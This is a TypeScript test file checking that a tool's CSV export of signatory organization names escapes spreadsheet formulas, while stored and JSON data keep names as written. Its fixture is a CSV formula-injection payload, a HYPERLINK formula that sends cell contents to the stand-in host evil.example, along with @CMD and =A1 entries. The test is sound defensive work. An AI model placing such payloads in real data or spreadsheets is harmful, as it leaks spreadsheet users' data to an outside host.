import assert from "node:assert/strict";
import { after, before, describe, it } from "node:test";
import { solidarity } from "../helpers/run-program.js";
import { organizer, say, startTestCore, type TestCore } from "../helpers/test-core.js";

const hostileName = '=HYPERLINK("http://evil.example/?x="&A1,"Click me")';

describe("a CSV export of organizations whose names are spreadsheet formulas", () => {
	let t: TestCore;
	before(async () => {
		t = await startTestCore();
	});
	after(() => t.stop());

	it("has no cell a spreadsheet would run, while the names stay stored and shown as written", async () => {
		const submissions = [
			`${hostileName}; =A1; Perú`,
			"+Solidarity Front; @CMD; Chile",
			"-Left Unity of Workers; -LUW; Brasil",
		];
		for (const [index, details] of submissions.entries()) {
			await say(t.core, `/adhere icor-peru-struggle-2023 ${details}`);
			await say(t.core, "/confirm");
			await say(t.core, `/approve icor-peru-struggle-2023 ${index + 1}`, organizer);
		}
		const csv = await solidarity(["signatories", "export", "icor-peru-struggle-2023", "--format", "csv"], t.redis.url);
		assert.equal(csv.code, 0, csv.stderr);
		const records = csv.stdout.split("\r\n").filter(Boolean);
		const cells = records.flatMap((record) => record.split(/,(?=(?:[^"]*"[^"]*")*[^"]*$)/));
		const live = cells.filter((cell) => /^"?[=+\-@\t\r]/.test(cell));
		assert.deepEqual(live, [], "no cell starts with = + - @ tab or CR");
		assert.ok(csv.stdout.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""Click me"")"`), csv.stdout);
		assert.match(csv.stdout, /,'=A1,/);
		assert.match(csv.stdout, /'-LUW/);

		const stored = await t.adherences.list("icor-peru-struggle-2023");
		assert.deepEqual(
			stored.map((adherence) => adherence.submission.name),
			[hostileName, "+Solidarity Front", "-Left Unity of Workers"],
			"stored exactly as written",
		);
		const json = await solidarity(
			["signatories", "export", "icor-peru-struggle-2023", "--format", "json"],
			t.redis.url,
		);
		assert.ok(
			json.stdout.includes(JSON.stringify(hostileName)),
			"JSON, which no spreadsheet runs, keeps the name as written",
		);
	});
});
